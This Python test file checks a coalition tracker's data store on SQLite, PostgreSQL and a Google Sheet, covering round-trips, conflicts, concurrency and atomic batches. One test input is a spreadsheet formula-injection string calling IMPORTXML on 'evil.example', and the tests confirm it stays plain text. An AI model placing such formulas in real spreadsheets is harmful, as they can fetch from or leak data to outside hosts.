"""The store contract: the same behaviour on SQLite, PostgreSQL and a Google Sheet."""

from __future__ import annotations

import threading
from collections.abc import Callable
from datetime import date

import pytest
import sqlalchemy as sa

from lib import schema
from lib.store import ConflictError, Edit, NotFoundError, StoreError
from tests.conftest import Backend, sheet_store
from tests.fake_sheets import FakeSheets

LONG_TEXT = "Ünïcödé ✊🏽 " + "x" * (schema.MAX_CELL_CHARS - 12)
TRICKY_TEXT = [
    '=IMPORTXML("http://evil.example", "//a")',
    "+1 (555) 0100",
    "-5 votes",
    "@everyone",
    "0123",
    "Nguyễn Thảo said «sí»",
    "line one\nline two",
]


def full_rows() -> dict[str, dict[str, object]]:
    """One row per table with every column set, using the values people really type."""
    return {
        "candidates": {
            "id": "cand-0123",
            "name": "Inés Márquez",
            "office": "City Council",
            "district": "03",
            "party": "Nonpartisan",
            "election_date": "2027-03-02",
            "stage": "primary",
            "incumbent": True,
            "website": "https://example.org/im",
            "priorities": ["housing", "child care"],
            "status": "running",
            "notes": LONG_TEXT,
            "created_by": "jo@example.org",
        },
        "issues": {
            "id": "iss-1",
            "name": "Affordable housing",
            "ask": TRICKY_TEXT[0],
            "description": "0123",
            "active": False,
        },
        "partners": {
            "id": "ptn-1",
            "name": "Main Street Alliance",
            "kind": "business association",
            "strengths": ["business voices", "media relations"],
            "tax_status": "501(c)(6)",
            "contact_name": "Dana Okafor",
            "contact_email": "dana@example.org",
            "notes": TRICKY_TEXT[3],
        },
        "interactions": {
            "id": "int-1",
            "date": date(2026, 11, 2),
            "candidate_id": "cand-0123",
            "kind": "one_on_one",
            "setting": "in_person",
            "partner_ids": ["ptn-1", "ptn-2"],
            "reported_by": "Jo",
            "attendees": "Jo; Sam",
            "objectives": TRICKY_TEXT[1],
            "candidate_priorities": ["economy"],
            "talking_points": TRICKY_TEXT[6],
            "questions_asked": "What is the cost?",
            "education_needed": TRICKY_TEXT[2],
            "quotes": "«We will fund it» (verbatim)",
            "takeaways": LONG_TEXT,
            "follow_up": "Send the fact sheet",
            "visibility": "restricted",
            "source": "firsthand",
            "created_by": "jo@example.org",
        },
        "positions": {
            "id": "pos-1",
            "candidate_id": "cand-0123",
            "issue_id": "iss-1",
            "stance": "strongly_opposes",
            "as_of": "2026-11-02",
            "evidence": TRICKY_TEXT[0],
            "interaction_id": "int-1",
            "source_url": "https://example.org/statement",
            "visibility": "public",
            "created_by": "jo@example.org",
        },
        "commitments": {
            "id": "cmt-1",
            "candidate_id": "cand-0123",
            "issue_id": "iss-1",
            "interaction_id": "int-1",
            "text": TRICKY_TEXT[4],
            "made_on": "2026-11-02",
            "status": "in_the_works",
            "owner": "Sam Lee",
            "follow_up_by": "2026-12-01",
            "visibility": "coalition",
            "created_by": "jo@example.org",
        },
        "updates": {
            "id": "upd-1",
            "commitment_id": "cmt-1",
            "date": "2026-11-03",
            "status": "stalled",
            "note": TRICKY_TEXT[5],
            "created_by": "jo@example.org",
        },
        "actions": {
            "id": "act-1",
            "title": "Send the fact sheet",
            "owner": "Sam Lee",
            "partner_id": "ptn-1",
            "due": "2026-11-30",
            "done": True,
            "candidate_id": "cand-0123",
            "interaction_id": "int-1",
            "commitment_id": "cmt-1",
            "created_by": "jo@example.org",
        },
        "members": {
            "email": "jo@example.org",
            "name": "Jo Park",
            "partner_id": "ptn-1",
            "role": "staff",
            "active": True,
        },
        "settings": {"key": "coalition_name", "value": "Riverton Forward ✊", "updated_by": "jo"},
        "audit": {
            "at": "2026-11-02T10:00:00.000001+00:00",
            "by": "jo@example.org",
            "action": "append",
            "table": "commitments",
            "record_id": "cmt-1",
            "detail": TRICKY_TEXT[0],
        },
    }


def test_a_new_store_has_every_table_with_the_contract_columns(backend: Backend) -> None:
    backend.store.ensure_schema()  # a second time changes nothing
    tables = backend.store.read_all()
    assert set(tables) == set(schema.TABLES)
    for name, frame in tables.items():
        assert list(frame.columns) == list(schema.table(name).column_names)
        assert frame.empty
        assert schema.problems_of(frame) == []


def test_every_table_round_trips_every_value_exactly(backend: Backend) -> None:
    rows = full_rows()
    for name, row in rows.items():
        backend.store.append(name, [row])
    tables = backend.store.read_all()
    for name, row in rows.items():
        frame = tables[name]
        assert len(frame) == 1, name
        stored = frame.iloc[0]
        for column, value in schema.to_cells(name, row).items():
            expected = (
                schema.parse_bool(value)
                if schema.table(name).column(column).kind is schema.Kind.BOOL
                else value
            )
            assert stored[column] == expected, (name, column)
        assert schema.problems_of(frame) == []


def test_leading_zeros_and_formula_text_stay_text(backend: Backend) -> None:
    backend.store.append("candidates", [{"name": text, "district": "0123"} for text in TRICKY_TEXT])
    candidates = backend.store.read("candidates")
    assert sorted(candidates["name"]) == sorted(TRICKY_TEXT)
    assert set(candidates["district"]) == {"0123"}


def test_append_fills_ids_and_stamps_and_keeps_given_ids(backend: Backend) -> None:
    made = backend.store.append(
        "issues", [{"name": "Transit"}, {"id": "iss-mine", "name": "Parks"}]
    )
    assert made[0].startswith("iss-") and made[1] == "iss-mine"
    issues = backend.store.read("issues").set_index("id")
    assert set(issues.index) == set(made)
    assert issues.loc["iss-mine", "created_at"] == issues.loc["iss-mine", "updated_at"] != ""
    assert bool(issues.loc["iss-mine", "active"]) is True  # the column's default


def test_repeating_an_append_with_the_same_ids_adds_nothing(backend: Backend) -> None:
    rows = [
        {"id": f"cmt-{n}", "text": f"Commitment {n}", "candidate_id": "cand-1"} for n in range(3)
    ]
    first = backend.store.append("commitments", rows)
    again = backend.store.append("commitments", rows + [{"id": "cmt-new", "text": "Another"}])
    assert again == first + ["cmt-new"]
    assert sorted(backend.store.read("commitments")["id"]) == ["cmt-0", "cmt-1", "cmt-2", "cmt-new"]


def test_text_longer_than_a_cell_is_refused_and_nothing_is_written(backend: Backend) -> None:
    with pytest.raises(schema.InvalidValue) as refused:
        backend.store.append("interactions", [{"takeaways": "y" * (schema.MAX_CELL_CHARS + 1)}])
    assert refused.value.column == "takeaways"
    assert "50,000" in str(refused.value)
    assert backend.store.read("interactions").empty


def test_update_changes_only_the_given_fields_and_moves_updated_at(backend: Backend) -> None:
    [record_id] = backend.store.append("commitments", [full_rows()["commitments"]])
    before = backend.store.read("commitments").iloc[0]
    written = backend.store.update(
        "commitments",
        record_id,
        {"status": "Promise kept"},
        expected_updated_at=before["updated_at"],
    )
    after = backend.store.read("commitments").iloc[0]
    assert after["status"] == "kept"
    assert after["updated_at"] == written["updated_at"] > before["updated_at"]
    unchanged = [name for name in after.index if name not in ("status", "updated_at")]
    assert after[unchanged].to_dict() == before[unchanged].to_dict()


def test_a_stale_update_raises_conflict_and_keeps_the_other_edit(backend: Backend) -> None:
    [record_id] = backend.store.append("commitments", [{"text": "Fund the clinic"}])
    stamp = backend.store.read("commitments").iloc[0]["updated_at"]
    backend.store.update("commitments", record_id, {"owner": "Ana"}, expected_updated_at=stamp)
    with pytest.raises(ConflictError) as conflict:
        backend.store.update("commitments", record_id, {"owner": "Ben"}, expected_updated_at=stamp)
    assert conflict.value.current["updated_at"] != stamp
    assert "Someone else changed" in str(conflict.value)
    assert backend.store.read("commitments").iloc[0]["owner"] == "Ana"


def test_updating_an_unknown_record_says_it_does_not_exist(backend: Backend) -> None:
    with pytest.raises(NotFoundError, match="cmt-missing"):
        backend.store.update("commitments", "cmt-missing", {"owner": "Ana"})


def test_eight_threads_appending_lose_and_duplicate_nothing(backend: Backend) -> None:
    errors: list[BaseException] = []

    def write(worker: int) -> None:
        try:
            for n in range(5):
                backend.store.append(
                    "updates",
                    [
                        {"commitment_id": f"cmt-{worker}", "note": f"{worker}-{n}-{k}"}
                        for k in range(5)
                    ],
                )
        except BaseException as error:
            errors.append(error)

    threads = [threading.Thread(target=write, args=(worker,)) for worker in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    updates = backend.store.read("updates")
    assert len(updates) == 8 * 5 * 5
    assert updates["id"].is_unique
    assert sorted(updates["note"]) == sorted(
        f"{w}-{n}-{k}" for w in range(8) for n in range(5) for k in range(5)
    )


def test_racing_updates_from_one_stamp_let_exactly_one_win(backend: Backend) -> None:
    [record_id] = backend.store.append("commitments", [{"text": "Hold a hearing"}])
    stamp = backend.store.read("commitments").iloc[0]["updated_at"]
    outcomes: list[str] = []

    def edit(owner: str) -> None:
        try:
            backend.store.update(
                "commitments", record_id, {"owner": owner}, expected_updated_at=stamp
            )
            outcomes.append(owner)
        except ConflictError:
            outcomes.append("conflict")

    threads = [threading.Thread(target=edit, args=(f"owner {n}",)) for n in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    winners = [outcome for outcome in outcomes if outcome != "conflict"]
    assert len(winners) == 1 and outcomes.count("conflict") == 5
    assert backend.store.read("commitments").iloc[0]["owner"] == winners[0]


HAND_EDITED_HEADER = [
    "Text",
    "ID",
    "Status",
    "Notes from Jo",
    "Visibility",
    "Follow up by",
    "candidate_id",
    "issue_id",
    "interaction_id",
    "made_on",
    "owner",
    "created_at",
    "created_by",
    "updated_at",
]


def test_a_hand_edited_table_reads_correctly_and_keeps_the_users_column(backend: Backend) -> None:
    stamp = "2026-11-01T09:00:00.000000+00:00"
    backend.hand_edit(
        "commitments",
        HAND_EDITED_HEADER,
        [
            [
                "Co-sponsor the ordinance",
                "cmt-a",
                " Promise Kept ",
                "call her office",
                "Coalition",
                "11/23/2026",
                "cand-1",
                "iss-1",
                "",
                "2026-10-01",
                "Jo",
                stamp,
                "",
                stamp,
            ],
            ["", "", "", "", "", "", "", "", "", "", "", "", "", ""],
            [
                "Attend the forum",
                "cmt-b",
                "in the works",
                "",
                "PUBLIC",
                "Dec 1, 2026",
                "cand-1",
                "iss-2",
                "",
                "10/2/2026",
                "",
                stamp,
                "",
                stamp,
            ],
        ],
    )
    commitments = backend.store.read("commitments").set_index("id")
    assert list(commitments.index) == ["cmt-a", "cmt-b"]
    assert commitments.loc["cmt-a", "status"] == "kept"
    assert commitments.loc["cmt-a", "visibility"] == "coalition"
    assert commitments.loc["cmt-a", "follow_up_by"] == "2026-11-23"
    assert commitments.loc["cmt-b", "status"] == "in_the_works"
    assert commitments.loc["cmt-b", "visibility"] == "public"
    assert commitments.loc["cmt-b", "follow_up_by"] == "2026-12-01"
    assert commitments.loc["cmt-b", "made_on"] == "2026-10-02"
    assert schema.problems_of(backend.store.read("commitments")) == []

    backend.store.update("commitments", "cmt-a", {"status": "broken"}, expected_updated_at=stamp)
    raw = backend.raw("commitments").set_index("id")
    assert raw.loc["cmt-a", "Notes from Jo"] == "call her office"
    assert raw.loc["cmt-a", "status"] == "broken"
    assert raw.loc["cmt-b", "status"] == "in the works"  # other rows are not rewritten
    assert backend.store.read("commitments").set_index("id").loc["cmt-a", "status"] == "broken"

    backend.store.append("commitments", [{"id": "cmt-c", "text": "New one", "status": "stalled"}])
    raw = backend.raw("commitments").set_index("id")
    assert raw.loc["cmt-c", "text"] == "New one" and raw.loc["cmt-c", "status"] == "stalled"
    assert raw.loc["cmt-c", "Notes from Jo"] == ""


def test_values_that_cannot_be_read_are_reported_per_row(backend: Backend) -> None:
    header = list(schema.table("commitments").column_names)
    row = dict.fromkeys(header, "")
    row.update(
        id="cmt-x",
        text="Fund it",
        status="maybe later",
        follow_up_by="someday",
        visibility="coalition",
    )
    backend.hand_edit("commitments", header, [[row[name] for name in header]])
    frame = backend.store.read("commitments")
    assert frame.iloc[0]["status"] == "not_yet_rated" and frame.iloc[0]["follow_up_by"] == ""
    problems = {
        (problem.column, problem.value, problem.record_id) for problem in schema.problems_of(frame)
    }
    assert problems == {("status", "maybe later", "cmt-x"), ("follow_up_by", "someday", "cmt-x")}


# --- several tables at once ------------------------------------------------------------------


def report_batch() -> dict[str, list[dict[str, object]]]:
    """What one report writes: a new candidate, the interaction and all that hangs off it."""
    return {
        "candidates": [{"id": "cand-new", "name": "Rosa Vega", "district": "07"}],
        "interactions": [
            {"id": "int-r1", "date": "2026-11-02", "candidate_id": "cand-new", "takeaways": "=1+1"}
        ],
        "commitments": [
            {"id": "cmt-r1", "candidate_id": "cand-new", "interaction_id": "int-r1", "text": "A"},
            {"id": "cmt-r2", "candidate_id": "cand-new", "interaction_id": "int-r1", "text": "B"},
        ],
        "updates": [{"id": "upd-r1", "commitment_id": "cmt-r1", "status": "in_the_works"}],
        "positions": [{"id": "pos-r1", "candidate_id": "cand-new", "stance": "supports"}],
        "actions": [{"id": "act-r1", "title": "Send the brief", "interaction_id": "int-r1"}],
        "audit": [{"by": "jo@example.org", "action": "filed a report", "record_id": "int-r1"}],
    }


def stored_counts(backend: Backend) -> dict[str, int]:
    backend.store.clear_cache()
    tables = backend.store.read_all()
    return {name: len(tables[name]) for name in report_batch()}


def test_append_many_lands_every_table_and_returns_the_ids(backend: Backend) -> None:
    ids = backend.store.append_many(report_batch())
    assert ids["commitments"] == ["cmt-r1", "cmt-r2"] and ids["audit"] == []
    assert stored_counts(backend) == {name: len(rows) for name, rows in report_batch().items()}
    interactions = backend.store.read("interactions")
    assert interactions.iloc[0]["takeaways"] == "=1+1"  # stored as typed, never a formula
    assert interactions.iloc[0]["visibility"] == "restricted"  # no visibility given: the narrowest


def test_repeating_a_batch_adds_nothing_not_even_its_audit_row(backend: Backend) -> None:
    backend.store.append_many(report_batch())
    backend.store.clear_cache()
    backend.store.append_many(report_batch())
    assert stored_counts(backend) == {name: len(rows) for name, rows in report_batch().items()}


def test_repeating_an_edit_with_its_audit_row_adds_the_audit_row_once(backend: Backend) -> None:
    store = backend.store
    [issue_id] = store.append("issues", [{"name": "Transit"}])
    store.clear_cache()
    seen = store.read("issues").iloc[0]["updated_at"]
    edit = Edit("issues", issue_id, {"ask": "Free buses", "updated_at": schema.now_stamp()}, seen)
    logged = {"by": "me", "action": "edited", "table": "issues", "record_id": issue_id}
    store.change([edit], {"audit": [logged]})
    store.change([edit], {"audit": [logged]})  # the first answer was lost: sent again
    store.clear_cache()
    assert store.read("issues").iloc[0]["ask"] == "Free buses"
    assert len(store.read("audit")) == 1


def test_a_batch_with_a_row_too_long_writes_nothing(backend: Backend) -> None:
    batch = report_batch()
    batch["actions"][0]["title"] = "x" * (schema.MAX_CELL_CHARS + 1)
    with pytest.raises(schema.InvalidValue):
        backend.store.append_many(batch)
    assert set(stored_counts(backend).values()) == {0}


def _break_writes(
    backend: Backend, request: pytest.FixtureRequest, table: str = "actions"
) -> Callable[[], None]:
    """Make the next batch fail midway (after some tables were sent); returns the healing."""
    if backend.name == "sheets":
        fake = request.getfixturevalue("fake")
        fake.fail(503, times=None, kinds="spreadsheets.batchUpdate")
        return fake.heal
    patch = pytest.MonkeyPatch()
    original = sa.engine.Connection.execute

    def execute(self: sa.engine.Connection, statement: object, *args: object, **kw: object):
        if isinstance(statement, sa.sql.dml.Insert) and statement.table.name == table:
            raise sa.exc.OperationalError(f"INSERT INTO {table}", {}, Exception("disk I/O error"))
        return original(self, statement, *args, **kw)

    patch.setattr(sa.engine.Connection, "execute", execute)
    return patch.undo


def test_a_batch_that_fails_midway_stores_nothing_and_one_retry_stores_it_once(
    backend: Backend, request: pytest.FixtureRequest
) -> None:
    heal = _break_writes(backend, request)
    with pytest.raises(StoreError):
        backend.store.append_many(report_batch())
    heal()
    assert set(stored_counts(backend).values()) == {0}
    backend.store.append_many(report_batch())
    assert stored_counts(backend) == {name: len(rows) for name, rows in report_batch().items()}


def test_a_batch_whose_answer_was_lost_is_not_written_twice(fake: FakeSheets) -> None:
    key = fake.create_spreadsheet("Coalition Tracker")
    store = sheet_store(fake, key)
    store.ensure_schema()
    fake.fail(503, times=1, kinds="spreadsheets.batchUpdate", apply_then=True)
    store.append_many(report_batch())  # landed; the answer was lost; the retry sees it landed
    store.clear_cache()
    tables = store.read_all()
    assert {name: len(tables[name]) for name in report_batch()} == {
        name: len(rows) for name, rows in report_batch().items()
    }


def status_update(version: str) -> tuple[list[Edit], dict[str, list[dict[str, object]]]]:
    """A status update as one change: the commitment, its dated history row, the audit row."""
    stamp = "2026-11-03T10:00:00.000001+00:00"
    edit = Edit("commitments", "cmt-r1", {"status": "kept", "updated_at": stamp}, version)
    rows = {
        "updates": [
            {"id": "upd-kept", "commitment_id": "cmt-r1", "status": "kept", "note": "Voted"}
        ],
        "audit": [{"by": "jo@example.org", "action": "updated status", "record_id": "cmt-r1"}],
    }
    return [edit], rows


def history_of(backend: Backend) -> tuple[str, int, int]:
    backend.store.clear_cache()
    tables = backend.store.read_all()
    status = tables["commitments"].set_index("id").loc["cmt-r1", "status"]
    return status, len(tables["updates"]), len(tables["audit"])


def test_a_status_update_writes_status_history_and_audit_together_and_once(
    backend: Backend,
) -> None:
    backend.store.append_many(report_batch())
    version = backend.store.read("commitments").set_index("id").loc["cmt-r1", "updated_at"]
    edits, rows = status_update(version)
    backend.store.change(edits, rows)
    assert history_of(backend) == ("kept", 2, 2)
    backend.store.change(edits, rows)  # the same update again (a retry): nothing changes
    assert history_of(backend) == ("kept", 2, 2)


def test_a_stale_status_update_writes_nothing_at_all(backend: Backend) -> None:
    backend.store.append_many(report_batch())
    edits, rows = status_update("2000-01-01T00:00:00.000000+00:00")
    with pytest.raises(ConflictError):
        backend.store.change(edits, rows)
    assert history_of(backend) == ("not_yet_rated", 1, 1)


def test_a_status_update_that_fails_midway_writes_nothing_then_lands_once(
    backend: Backend, request: pytest.FixtureRequest
) -> None:
    backend.store.append_many(report_batch())
    version = backend.store.read("commitments").set_index("id").loc["cmt-r1", "updated_at"]
    edits, rows = status_update(version)
    heal = _break_writes(backend, request, table="updates")
    with pytest.raises(StoreError):
        backend.store.change(edits, rows)
    heal()
    assert history_of(backend) == ("not_yet_rated", 1, 1)
    backend.store.change(edits, rows)
    assert history_of(backend) == ("kept", 2, 2)
